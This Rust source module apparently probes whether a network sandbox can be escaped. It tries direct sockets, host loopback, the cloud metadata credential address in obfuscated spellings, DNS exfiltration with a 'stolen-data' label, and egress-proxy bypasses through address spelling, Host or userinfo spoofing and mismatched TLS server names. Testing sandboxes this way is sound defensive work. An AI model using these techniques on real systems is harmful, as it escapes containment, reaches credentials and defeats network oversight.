//! Ways out by the network: straight, by names, and through the proxy that the sandbox offers.

use super::{canary, refused};
use crate::attempt::{Attempted, Reach, Refusal, Try, attempt};
use crate::setting::Setting;
use crate::sys;
use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::fd::AsRawFd;
use std::time::Duration;

const SHORT: Duration = Duration::from_millis(1500);

fn connect(to: &str) -> Result<TcpStream, Refusal> {
    let mut last = Refusal::Errno(libc::EADDRNOTAVAIL);
    for address in to.to_socket_addrs().map_err(|_| Refusal::Errno(libc::ENETUNREACH))? {
        match TcpStream::connect_timeout(&address, SHORT) {
            Ok(stream) => {
                stream.set_read_timeout(Some(SHORT)).map_err(refused)?;
                return Ok(stream);
            }
            Err(error) if error.kind() == std::io::ErrorKind::TimedOut => last = Refusal::TimedOut,
            Err(error) => last = refused(error),
        }
    }
    Err(last)
}

fn hear(stream: &mut impl Read) -> Attempted {
    let mut words = [0u8; 512];
    match stream.read(&mut words) {
        Ok(0) => Err(Refusal::Errno(libc::ECONNRESET)),
        Ok(got) => canary(&words[..got]),
        Err(error) if error.raw_os_error() == Some(libc::EAGAIN) => Err(Refusal::TimedOut),
        Err(error) => Err(refused(error)),
    }
}

fn tcp(to: &str) -> Attempted {
    hear(&mut connect(to)?)
}

fn udp(to: &str, packet: &[u8], connected: bool) -> Attempted {
    let peer: SocketAddr = to.parse().map_err(|_| Refusal::Unprepared(format!("{to} is no address")))?;
    let any = if peer.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
    let socket = UdpSocket::bind(any).map_err(refused)?;
    socket.set_read_timeout(Some(SHORT)).map_err(refused)?;
    if connected {
        socket.connect(peer).map_err(refused)?;
        socket.send(packet).map_err(refused)?;
    } else {
        socket.send_to(packet, peer).map_err(refused)?;
    }
    let mut words = [0u8; 512];
    match socket.recv(&mut words) {
        Ok(got) => canary(&words[..got]),
        Err(error) if error.raw_os_error() == Some(libc::EAGAIN) => Err(Refusal::TimedOut),
        Err(error) => Err(refused(error)),
    }
}

/// Straight to an address of the host's network, without asking anybody.
pub fn direct(setting: &Setting) -> Vec<Try> {
    let to = |key: &str| setting.get(key).map(str::to_string);
    vec![
        attempt("TCP, IPv4", Reach::Peer, || tcp(&to("tcp4")?)),
        attempt("TCP, IPv6", Reach::Peer, || tcp(&to("tcp6")?)),
        attempt("TCP, IPv4 mapped into IPv6", Reach::Peer, || {
            let (address, port) = split(&to("tcp4")?)?;
            tcp(&format!("[::ffff:{address}]:{port}"))
        }),
        attempt("TCP, data with the first packet", Reach::Peer, || {
            let peer: SocketAddr = to("tcp4")?.parse().map_err(|_| Refusal::Errno(libc::EINVAL))?;
            let SocketAddr::V4(peer) = peer else { return Err(Refusal::Errno(libc::EINVAL)) };
            let kind = (libc::SOCK_STREAM | libc::SOCK_CLOEXEC) as usize;
            let fd = sys::call(libc::SYS_socket, [libc::AF_INET as usize, kind, 0, 0, 0, 0])
                .map(sys::own)
                .map_err(Refusal::Errno)?;
            let mut name = [0u8; 16];
            name[0] = libc::AF_INET as u8;
            name[2..4].copy_from_slice(&peer.port().to_be_bytes());
            name[4..8].copy_from_slice(&peer.ip().octets());
            let packet = b"x";
            let fast_open = 0x2000_0000;
            let send =
                [fd.as_raw_fd() as usize, packet.as_ptr() as usize, 1, fast_open, name.as_ptr() as usize, 16];
            sys::call(libc::SYS_sendto, send).map_err(Refusal::Errno)?;
            let mut stream = TcpStream::from(fd);
            stream.set_read_timeout(Some(SHORT)).map_err(refused)?;
            hear(&mut stream)
        }),
        attempt("UDP", Reach::Peer, || udp(&to("udp4")?, b"x", false)),
        attempt("UDP, connected", Reach::Peer, || udp(&to("udp4")?, b"x", true)),
        attempt("UDP, IPv6", Reach::Peer, || udp(&to("udp6")?, b"x", false)),
        attempt("QUIC, first packet", Reach::Peer, || {
            let mut first = vec![0xc3, 0, 0, 0, 1, 8];
            first.resize(1200, 0x5a);
            udp(&to("udp4")?, &first, false)
        }),
    ]
}

fn split(address: &str) -> Result<(String, String), Refusal> {
    let (host, port) = address
        .rsplit_once(':')
        .ok_or_else(|| Refusal::Unprepared(format!("{address} is no address and port")))?;
    Ok((host.to_string(), port.to_string()))
}

/// Services that listen on the loopback interface of the host.
pub fn host_loopback(setting: &Setting) -> Vec<Try> {
    let port = |key: &str| setting.number(key);
    vec![
        attempt("TCP, IPv4", Reach::Peer, || tcp(&format!("127.0.0.1:{}", port("loop4")?))),
        attempt("TCP, another address of 127/8", Reach::Peer, || {
            tcp(&format!("127.8.8.8:{}", port("loop4")?))
        }),
        attempt("TCP, address 0", Reach::Peer, || tcp(&format!("0.0.0.0:{}", port("loop4")?))),
        attempt("TCP, IPv6", Reach::Peer, || tcp(&format!("[::1]:{}", port("loop6")?))),
        attempt("TCP, by name", Reach::Peer, || tcp(&format!("localhost:{}", port("loop4")?))),
        attempt("UDP", Reach::Peer, || udp(&format!("127.0.0.1:{}", port("loopudp")?), b"x", false)),
    ]
}

/// The address at which clouds keep a machine's credentials.
pub fn metadata(setting: &Setting) -> Vec<Try> {
    let reach = |how: &str, to: &str| {
        attempt(how, Reach::Peer, || {
            if setting.control {
                offer_metadata()?;
            }
            tcp(to)
        })
    };
    vec![
        reach("169.254.169.254", "169.254.169.254:80"),
        reach("its decimal spelling", "2852039166:80"),
        reach("its hexadecimal spelling", "0xa9fea9fe:80"),
        reach("mapped into IPv6", "[::ffff:169.254.169.254]:80"),
    ]
}

/// For a control run: a network of its own in which the address exists and answers.
fn offer_metadata() -> Result<(), Refusal> {
    let here = [169, 254, 169, 254];
    super::privileges::become_root_of_own_namespace();
    sys::dress_loopback(here)
        .map_err(|e| Refusal::Unprepared(format!("no own network: {}", sys::errno_text(e))))?;
    let listener = TcpListener::bind((std::net::Ipv4Addr::from(here), 80)).map_err(refused)?;
    std::thread::spawn(move || {
        for mut peer in listener.incoming().flatten() {
            let _ = peer.write_all(crate::setting::CANARY.as_bytes());
        }
    });
    Ok(())
}

/// Data carried out inside questions to a name server.
pub fn names(setting: &Setting) -> Vec<Try> {
    let question = |id: u8| {
        let mut packet = vec![id, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        for label in ["stolen-data-in-a-label", "example"] {
            packet.push(label.len() as u8);
            packet.extend_from_slice(label.as_bytes());
        }
        packet.extend_from_slice(&[0, 0, 16, 0, 1]);
        packet
    };
    let server = || setting.get("dns").map(str::to_string);
    vec![
        attempt("UDP question to a server of the attacker", Reach::Peer, || {
            udp(&server()?, &question(1), false)
        }),
        attempt("TCP question to it", Reach::Peer, || {
            let mut stream = connect(setting.get("tcp4")?)?;
            let packet = question(2);
            let length = (packet.len() as u16).to_be_bytes();
            stream.write_all(&[&length[..], &packet].concat()).map_err(refused)?;
            hear(&mut stream)
        }),
        attempt("question to the host's own name server", Reach::Peer, || {
            let configured = fs::read_to_string("/etc/resolv.conf").map_err(refused)?;
            let address = configured
                .lines()
                .find_map(|l| l.strip_prefix("nameserver "))
                .ok_or(Refusal::Errno(libc::ENOENT))?
                .trim()
                .to_string();
            let to = if address.contains(':') { format!("[{address}]:53") } else { format!("{address}:53") };
            let peer: SocketAddr = to.parse().map_err(|_| Refusal::Errno(libc::EINVAL))?;
            let any = if peer.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
            let socket = UdpSocket::bind(any).map_err(refused)?;
            socket.set_read_timeout(Some(SHORT)).map_err(refused)?;
            socket.send_to(&question(3), peer).map_err(refused)?;
            let mut words = [0u8; 512];
            match socket.recv(&mut words) {
                Ok(got) => Ok(format!("{got} bytes of answer")),
                Err(error) if error.raw_os_error() == Some(libc::EAGAIN) => Err(Refusal::TimedOut),
                Err(error) => Err(refused(error)),
            }
        }),
        attempt("resolver of the C library", Reach::Peer, || {
            match ("stolen-data.debian.org", 80).to_socket_addrs() {
                Ok(_) => Ok("resolved".to_string()),
                Err(_) => Err(Refusal::Errno(libc::ENETUNREACH)),
            }
        }),
    ]
}

/// What to ask of the proxy for one spelling.
enum Ask {
    Connect(String),
    Plain { target: String, host: String },
}

/// Through the sandbox's own proxy to places that the contract does not name. Outside the same place is reached
/// directly.
pub fn proxy(setting: &Setting) -> Vec<Try> {
    let denied = || setting.get("denied").and_then(split);
    let ask = |how: &str, spell: &dyn Fn(&str, &str) -> Result<Ask, Refusal>| {
        attempt(how, Reach::Peer, || {
            let (address, port) = denied()?;
            let asked = spell(&address, &port)?;
            if setting.control {
                return match asked {
                    Ask::Connect(to) => tcp(&to),
                    Ask::Plain { .. } => tcp(&format!("{address}:{port}")),
                };
            }
            through_proxy(setting, &asked)
        })
    };
    let connect = |to: String| Ok(Ask::Connect(to));
    let number = |address: &str| -> Result<u32, Refusal> {
        address.parse::<std::net::Ipv4Addr>().map(u32::from).map_err(|_| Refusal::Errno(libc::EINVAL))
    };
    vec![
        ask("CONNECT by address", &|a, p| connect(format!("{a}:{p}"))),
        ask("CONNECT, decimal address", &|a, p| connect(format!("{}:{p}", number(a)?))),
        ask("CONNECT, hexadecimal address", &|a, p| connect(format!("{:#x}:{p}", number(a)?))),
        ask("CONNECT, octal address", &|a, p| {
            let parts: Vec<String> = number(a)?.to_be_bytes().iter().map(|b| format!("0{b:o}")).collect();
            connect(format!("{}:{p}", parts.join(".")))
        }),
        ask("CONNECT, mapped into IPv6", &|a, p| connect(format!("[::ffff:{a}]:{p}"))),
        ask("CONNECT to loopback of the host", &|_, _| {
            connect(format!("127.0.0.1:{}", setting.number("loop4")?))
        }),
        ask("CONNECT to loopback by name", &|_, _| {
            connect(format!("localhost:{}", setting.number("loop4")?))
        }),
        ask("CONNECT to loopback, IPv6", &|_, _| connect(format!("[::1]:{}", setting.number("loop6")?))),
        ask("GET of a whole address", &|a, p| {
            Ok(Ask::Plain { target: format!("http://{a}:{p}/"), host: format!("{a}:{p}") })
        }),
        ask("GET, an allowed name in Host", &|a, p| {
            let allowed = setting.or("allowed", "example.org:443");
            Ok(Ask::Plain { target: format!("http://{a}:{p}/"), host: allowed })
        }),
        ask("GET, an allowed name before the @", &|a, p| {
            let allowed = setting.or("allowed", "example.org:443");
            Ok(Ask::Plain { target: format!("http://{allowed}@{a}:{p}/"), host: allowed })
        }),
        attempt("CONNECT to the metadata address", Reach::Peer, || {
            if setting.control {
                offer_metadata()?;
                return tcp("169.254.169.254:80");
            }
            through_proxy(setting, &Ask::Connect("169.254.169.254:80".to_string()))
        }),
        attempt("CONNECT to an allowed name, another in the TLS greeting", Reach::Peer, || {
            let allowed = setting.get("allowed")?.to_string();
            let mut stream = if setting.control {
                TcpStream::connect(setting.get("tls")?).map_err(refused)?
            } else {
                open_tunnel(setting, &allowed)?
            };
            stream.set_read_timeout(Some(SHORT * 2)).map_err(refused)?;
            stream.write_all(&client_hello("denied.example")).map_err(refused)?;
            in_tunnel(setting, hear(&mut stream))
        }),
        attempt("CONNECT to an allowed name, no TLS inside", Reach::Peer, || {
            if setting.get("declared-port").is_ok() {
                let why = "the contract declares the port, which may then carry anything";
                return Err(Refusal::Unprepared(why.to_string()));
            }
            let allowed = setting.get("allowed")?.to_string();
            let mut stream = if setting.control {
                TcpStream::connect(setting.get("tls")?).map_err(refused)?
            } else {
                open_tunnel(setting, &allowed)?
            };
            stream.set_read_timeout(Some(SHORT * 2)).map_err(refused)?;
            stream.write_all(b"GET / HTTP/1.1\r\nHost: denied.example\r\n\r\n").map_err(refused)?;
            in_tunnel(setting, hear(&mut stream))
        }),
    ]
}

/// The proxy had said yes to the tunnel: whoever closes it then, or answers in it, is the proxy.
fn in_tunnel(setting: &Setting, heard: Attempted) -> Attempted {
    match heard {
        Err(Refusal::Errno(_)) if !setting.control => {
            Err(Refusal::Answer("the tunnel was closed at its first bytes".to_string()))
        }
        other => other,
    }
}

fn open_tunnel(setting: &Setting, to: &str) -> Result<TcpStream, Refusal> {
    let proxy = setting.or("proxy", "127.0.0.1:3128");
    let mut stream = connect(&proxy)?;
    stream.set_read_timeout(Some(SHORT * 2)).map_err(refused)?;
    write!(stream, "CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n").map_err(refused)?;
    let answer = head(&mut stream)?;
    if answer.split(' ').nth(1) == Some("200") {
        Ok(stream)
    } else {
        Err(Refusal::Answer(answer.lines().next().unwrap_or_default().to_string()))
    }
}

fn through_proxy(setting: &Setting, ask: &Ask) -> Attempted {
    match ask {
        Ask::Connect(to) => hear(&mut open_tunnel(setting, to)?),
        Ask::Plain { target, host } => {
            let proxy = setting.or("proxy", "127.0.0.1:3128");
            let mut stream = connect(&proxy)?;
            stream.set_read_timeout(Some(SHORT * 2)).map_err(refused)?;
            write!(stream, "GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
                .map_err(refused)?;
            let mut all = Vec::new();
            let _ = stream.take(4096).read_to_end(&mut all);
            let text = String::from_utf8_lossy(&all).to_string();
            match canary(&all) {
                Ok(words) => Ok(words),
                Err(_) => Err(Refusal::Answer(text.lines().next().unwrap_or("no answer").to_string())),
            }
        }
    }
}

/// The head of an answer, byte by byte, so that nothing behind it is swallowed.
fn head(stream: &mut TcpStream) -> Result<String, Refusal> {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") && head.len() < 4096 {
        match stream.read(&mut byte) {
            Ok(1) => head.push(byte[0]),
            Ok(_) => break,
            Err(error) if error.raw_os_error() == Some(libc::EAGAIN) => return Err(Refusal::TimedOut),
            Err(error) => return Err(refused(error)),
        }
    }
    Ok(String::from_utf8_lossy(&head).to_string())
}

/// The first message of TLS 1.2 or 1.3 with a server name.
fn client_hello(name: &str) -> Vec<u8> {
    let two = |n: usize| (n as u16).to_be_bytes();
    let mut server_name = vec![0, 0];
    let entry = [&[0u8][..], &two(name.len()), name.as_bytes()].concat();
    let list = [&two(entry.len())[..], &entry].concat();
    server_name.extend_from_slice(&two(list.len()));
    server_name.extend_from_slice(&list);
    let versions = [0, 43, 0, 3, 2, 3, 4];
    let extensions = [&server_name[..], &versions].concat();
    let mut body = vec![3, 3];
    body.extend_from_slice(&[0x42; 32]);
    body.extend_from_slice(&[0, 0, 2, 0x13, 1, 1, 0]);
    body.extend_from_slice(&two(extensions.len()));
    body.extend_from_slice(&extensions);
    let mut message = vec![1, 0];
    message.extend_from_slice(&two(body.len()));
    message.extend_from_slice(&body);
    [&[22u8, 3, 1][..], &two(message.len()), &message].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_greeting_says_its_name_and_its_lengths() {
        let hello = client_hello("denied.example");
        assert_eq!(hello[0], 22);
        assert_eq!(usize::from(u16::from_be_bytes([hello[3], hello[4]])), hello.len() - 5);
        assert_eq!(usize::from(u16::from_be_bytes([hello[7], hello[8]])), hello.len() - 9);
        assert!(hello.windows(14).any(|w| w == b"denied.example"));
    }
}
